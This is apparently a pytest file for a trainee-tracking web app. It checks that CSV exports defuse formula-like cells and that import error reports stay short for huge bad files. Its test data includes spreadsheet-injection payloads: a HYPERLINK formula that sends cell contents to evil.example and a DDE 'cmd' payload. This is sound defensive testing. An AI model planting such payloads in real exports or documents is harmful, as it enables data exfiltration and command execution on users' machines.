"""CSV exports carry no live formulas, and import reports stay small however bad the file (issue 8, items 10 and 17)."""
import csv
import io
import time
from datetime import date

import pytest
from sqlalchemy import func, select

from tests.conftest import csrf_token_from
from tests.factories import (
    make_job_type,
    make_module,
    make_result,
    make_role,
    make_rotation,
    make_trainee,
    make_user,
)
from tests.page_helpers import job_page_when_ended
from tracker.core.cells import spreadsheet_safe, unmarked
from tracker.extensions import db
from tracker.imports.csvfile import LISTED_LINES, ImportFailed, Problems
from tracker.imports.models import ImportJob
from tracker.trainees.models import Rotation

HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "'=already quoted", "'plain apostrophe", "'", "fine = after the start", "-",
]


@pytest.fixture
def programme(app):
    maria = make_user("supervisor", email="maria@example.com", name="Maria Lopez")
    things = {
        "maria": maria,
        "admin": make_user("admin", email="admin@example.com"),
        "amelia": make_trainee(supervisor=maria, email="amelia@example.com", name="=Amelia Hughes"),
        "warehouse": make_job_type("warehouse", "Warehouse operations"),
        "safety": make_module("safety", "Workplace Safety"),
    }
    db.session.commit()
    return things


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+49 30 1234", "'+49 30 1234"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=1+1", "''=1+1"), ("'x", "''x"), ("plain", "plain"), ("", ""), ("a=b", "a=b"), (4, 4), (None, None),
])
def test_cells_that_would_be_formulas_are_marked_and_unmarked_again(value, written):
    assert spreadsheet_safe(value) == written
    if isinstance(value, str):
        assert unmarked(written) == value


def exported_cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def test_exports_start_no_cell_with_a_formula(runner, programme):
    amelia, warehouse = programme["amelia"], programme["warehouse"]
    for n, notes in enumerate(HOSTILE_NOTES):
        make_rotation(amelia, warehouse, date(2020, 1, 1 + 2 * n), date(2020, 1, 2 + 2 * n), notes=notes)
    db.session.commit()
    for kind in ("rotations", "trainees", "results"):
        cells = exported_cells(runner.invoke(args=[kind, "export"]).output)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], kind
    rotations = runner.invoke(args=["rotations", "export"]).output
    assert "'=HYPERLINK(" in rotations and "'-2+3" in rotations and "'''" not in rotations.replace("''=already", "")


def test_the_readiness_export_marks_formulas_too(runner, programme):
    make_trainee(email="+plus@example.com")
    make_role("audit")
    db.session.commit()
    output = runner.invoke(args=["readiness", "export"]).output
    assert "'+plus@example.com,audit," in output
    assert not [c for c in exported_cells(output) if c.startswith(("=", "+", "-", "@"))]


def test_export_then_import_changes_nothing_with_formula_like_values(runner, tmp_path, programme):
    amelia, warehouse = programme["amelia"], programme["warehouse"]
    for n, notes in enumerate(HOSTILE_NOTES):
        make_rotation(amelia, warehouse, date(2020, 1, 1 + 2 * n), date(2020, 1, 2 + 2 * n), notes=notes)
    make_result(amelia, programme["safety"], date(2020, 2, 1), 70)
    db.session.commit()
    for kind in ("trainees", "rotations", "results"):
        exported = runner.invoke(args=[kind, "export"]).output
        path = tmp_path / f"{kind}.csv"
        path.write_text(exported, encoding="utf-8")
        result = runner.invoke(args=[kind, "import", str(path)])
        assert result.exit_code == 0 and "0 created, 0 updated" in result.output, (kind, result.output)
        assert runner.invoke(args=[kind, "export"]).output == exported
    assert sorted(db.session.scalars(select(Rotation.notes))) == sorted(HOSTILE_NOTES)


def test_the_export_download_is_marked_as_well(client, auth, programme):
    make_rotation(programme["amelia"], programme["warehouse"], date(2020, 1, 1), date(2020, 1, 2), notes="=1+1")
    db.session.commit()
    auth.login("admin@example.com")
    body = client.get("/admin/imports/rotations.csv").get_data(as_text=True)
    assert ",'=1+1" in body and ",=1+1" not in body


# --- a bound on the import report (item 17) --------------------------------------------


def test_problems_keep_the_first_hundred_lines_and_count_the_rest():
    problems = Problems()
    for line in range(1000, 2, -1):  # reported out of order, as later checks do
        problems.add(line, "bad")
        problems.add(line, "worse")
    problems.add(2, "first")
    with pytest.raises(ImportFailed) as failed:
        problems.raise_if_any()
    assert failed.value.count == 999 and failed.value.unlisted == 999 - LISTED_LINES
    assert [line for line, _ in failed.value.problems] == list(range(2, 2 + LISTED_LINES))
    assert failed.value.problems[1] == (3, "bad; worse")


def bad_file(lines: int) -> bytes:
    """A rotations file whose every line is wrong in several ways."""
    header = "trainee_email,job_type,supervisor_email,start_date,end_date,rating,notes\n"
    row = "nobody{n}@example.com,no-such-job,,yesterday,tomorrow,11,{pad}\n"
    return (header + "".join(row.format(n=n, pad="x" * 40) for n in range(lines))).encode()


def test_a_huge_file_of_bad_lines_gets_a_short_page_listing_a_hundred(client, auth, programme):
    """Imported in the background (it has more than TRACKER_IMPORT_INLINE_ROWS rows); its job's page is the short one."""
    data = bad_file(120_000)  # about 12 MB
    assert len(data) > 11_000_000
    auth.login("admin@example.com")
    token = csrf_token_from(client.get("/admin/imports/"))
    started = time.monotonic()
    response = client.post("/admin/imports/", data={"kind": "rotations", "file": (io.BytesIO(data), "r.csv"), "csrf_token": token},
                           content_type="multipart/form-data")
    page = job_page_when_ended(client, response, timeout=120)
    elapsed = time.monotonic() - started
    assert "Nothing was imported: 120000 lines of the file have problems." in page
    assert page.count("<li>line ") == LISTED_LINES and "<li>line 101:" in page and "<li>line 102:" not in page
    assert f"… and {120_000 - LISTED_LINES} more lines with problems" in page
    assert len(page) < 200_000, len(page)  # a page, not 477 MB
    assert elapsed < 120  # generous: it took 29 s to fail before; far less now, but the machine is shared
    assert db.session.scalar(select(func.count()).select_from(Rotation)) == 0
    job = db.session.scalar(select(ImportJob))
    assert (job.bad_lines, len(job.problems), job.data) == (120_000, LISTED_LINES, None), "a bounded record, no file kept"


def test_the_command_line_lists_a_hundred_bad_lines_and_counts_the_rest(runner, tmp_path, programme):
    path = tmp_path / "bad.csv"
    path.write_bytes(bad_file(5_000))
    result = runner.invoke(args=["rotations", "import", str(path)])
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == LISTED_LINES + 2
    assert lines[-2].endswith(f"... and {5_000 - LISTED_LINES} more bad lines, not listed")
    assert lines[-1].endswith("5000 bad lines; nothing was imported.")


def test_a_huge_file_that_is_not_utf8_lists_a_hundred_lines(runner, tmp_path, programme):
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"trainee_email,module,completed_on,score\n" + b"caf\xe9@example.com,safety,2025-01-01,70\n" * 3000)
    result = runner.invoke(args=["results", "import", str(path)])
    assert result.exit_code == 1 and "3000 bad lines" in result.output
    assert len(result.output.strip().splitlines()) == LISTED_LINES + 2
